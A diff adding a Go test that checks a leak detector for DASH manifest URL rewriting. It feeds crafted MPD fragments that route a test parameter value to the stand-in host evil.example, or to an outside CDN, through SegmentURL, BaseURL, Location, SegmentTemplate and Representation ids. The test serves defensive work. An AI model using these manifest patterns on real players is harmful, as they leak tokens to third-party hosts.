@@ -532,3 +532,29 @@ func TestStreamsWithinBounds(t *testing.T) {
 		t.Errorf("%d URLs rewritten", n)
 	}
 }
+
+// TestRefereeCatchesLeaks: the referee the fuzz target relies on fails on
+// the leaks it is meant to find.
+func TestRefereeCatchesLeaks(t *testing.T) {
+	for _, leak := range []string{
+		`<Period><SegmentURL media="https://evil.example/x?` + testPV + `"/></Period>`,
+		`<BaseURL>//evil.example/?` + testPV + `</BaseURL>`,
+		`<BaseURL>https://cdn.example.net/</BaseURL><Period><SegmentURL media="x?` + testPV + `"/></Period>`,
+		`<Location>https://evil.example/m.mpd</Location><BaseURL>a/?` + testPV + `</BaseURL>`,
+		`<Period><AdaptationSet><SegmentTemplate media="$Number$?` + testPV + `"/><Representation><BaseURL>https://cdn.example.net/</BaseURL></Representation></AdaptationSet></Period>`,
+		`<Period><AdaptationSet><Representation><BaseURL>https://cdn.example.net/</BaseURL></Representation><SegmentTemplate media="$Number$?` + testPV + `"/></AdaptationSet></Period>`,
+		`<Period><AdaptationSet><SegmentTemplate media="$RepresentationID$/$Number$?` + testPV + `"/><Representation id="//evil.example"/></AdaptationSet></Period>`,
+		`<Period xml:base="https://cdn.example.net/"><SegmentURL media="x?` + testPV + `"/></Period>`,
+	} {
+		root, _, err := parse([]byte(mpd(leak)))
+		if err != nil {
+			t.Fatal(err)
+		}
+		if noLeak(root) == nil {
+			t.Errorf("the referee misses %s", leak)
+		}
+	}
+	if !inserted("a?b", "a?b&"+testPV) || inserted("a?b", "a?bX"+testPV) || !inserted("a#f", "a?"+testPV+"#f") {
+		t.Error("inserted is wrong")
+	}
+}
